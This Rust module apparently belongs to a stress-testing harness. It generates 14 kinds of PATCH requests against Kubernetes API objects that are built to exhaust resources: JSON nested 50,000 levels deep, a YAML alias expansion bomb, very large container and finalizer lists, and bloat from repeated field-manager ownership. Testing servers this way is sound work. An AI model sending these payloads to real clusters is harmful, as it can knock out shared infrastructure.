//! Patches that make something deep, large or slow of something small.

use super::{Attack, own};

pub(super) const KINDS: usize = 14;
/// Applies an object where a text belongs.
pub(super) const MISTYPED: usize = 5;

const MERGE: &str = "application/merge-patch+json";
const STRATEGIC: &str = "application/strategic-merge-patch+json";
const APPLY: &str = "application/apply-patch+yaml";

pub(super) fn attack(n: usize, round: usize) -> Attack {
    let (map, pod) = (own("api/v1", "configmaps/h"), own("api/v1", "pods/guarded"));
    let patch = |path: &str, media: &'static str, body: String| {
        let manager = if media == APPLY { "?fieldManager=h&force=true" } else { "" };
        Attack { method: "PATCH", path: format!("{path}{manager}"), media, body }
    };
    match n {
        0 => patch(&map, MERGE, deep("\"data\":", 60)),
        1 => patch(&map, MERGE, deep("\"a\":", 50_000)),
        2 => patch(&pod, STRATEGIC, deep("\"spec\":", 50_000)),
        3 => patch(&pod, STRATEGIC, deep("\"metadata\":", 60)),
        4 => patch(&map, APPLY, applied(&deep("\"a\":", 50_000))),
        MISTYPED => patch(&map, APPLY, applied(&deep("\"a\":", 60))),
        // One more key each time, until there is no room.
        6 => patch(&map, MERGE, format!(r#"{{"data":{{"k{round}":"{}"}}}}"#, "x".repeat(300_000))),
        7 => patch(
            &map,
            APPLY,
            format!(
                "apiVersion: v1\nkind: ConfigMap\nmetadata: {{name: h}}\nx0: &x0 [x, x]\n{}data: {{a: b}}\n",
                (1..40).map(|n| format!("x{n}: &x{n} [*x{0}, *x{0}]\n", n - 1)).collect::<String>()
            ),
        ),
        8 => patch(
            &pod,
            STRATEGIC,
            format!(
                r#"{{"spec":{{"$setElementOrder/containers":[{0}],"containers":[{0}]}}}}"#,
                list(20_000, |n| format!(r#"{{"name":"c{}"}}"#, 20_000 - n))
            ),
        ),
        9 => patch(
            &map,
            STRATEGIC,
            format!(
                r#"{{"metadata":{{"$deleteFromPrimitiveList/finalizers":[{0}],"$setElementOrder/finalizers":[{0}],"finalizers":[{0}]}}}}"#,
                list(30_000, |n| format!("\"example.com/f{n}\""))
            ),
        ),
        10 => patch(
            &pod,
            STRATEGIC,
            format!(
                r#"{{"spec":{{"containers":[{}]}}}}"#,
                list(30_000, |n| format!(
                    r#"{{"$patch":"{}","name":"c"}}"#,
                    if n % 2 == 0 { "delete" } else { "replace" }
                ))
            ),
        ),
        // Each field that is owned is written down once more for each manager.
        11 => Attack {
            method: "PATCH",
            path: format!("{map}?force=true&fieldManager=m{round}"),
            media: APPLY,
            body: format!(
                r#"{{"apiVersion":"v1","kind":"ConfigMap","metadata":{{"name":"h"}},"data":{{{}}}}}"#,
                list(3_000, |n| format!(r#""owned-{n}":"x""#))
            ),
        },
        12 => patch(
            &map,
            "application/json-patch+json",
            format!(
                r#"[{{"op":"add","path":"/metadata/finalizers","value":[]}},{}]"#,
                list(9_000, |n| format!(
                    r#"{{"op":"add","path":"/metadata/finalizers/0","value":"example.com/f{n}"}}"#
                ))
            ),
        ),
        _ => {
            patch(&map, MERGE, format!(r#"{{"data":{{{}}}}}"#, list(100_000, |n| format!(r#""k{n}":null"#))))
        }
    }
}

/// An object in an object, so often.
fn deep(field: &str, depth: usize) -> String {
    format!("{}1{}", format!("{{{field}").repeat(depth), "}".repeat(depth))
}

fn applied(value: &str) -> String {
    format!(r#"{{"apiVersion":"v1","kind":"ConfigMap","metadata":{{"name":"h"}},"data":{value}}}"#)
}

fn list(count: usize, item: impl Fn(usize) -> String) -> String {
    (0..count).map(item).collect::<Vec<_>>().join(",")
}
